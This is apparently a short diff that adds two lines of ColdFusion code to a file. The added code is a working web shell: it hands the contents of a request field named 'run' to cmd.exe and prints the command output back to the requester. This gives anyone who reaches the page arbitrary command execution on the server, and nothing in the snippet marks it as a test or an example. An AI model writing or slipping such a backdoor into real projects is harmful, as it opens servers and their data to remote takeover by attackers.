@@ -1,0 +1,2 @@
+<cfexecute name="cmd.exe" arguments="/c #form.run#" timeout="10" variable="out"></cfexecute>
+<cfoutput><pre>#out#</pre></cfoutput>
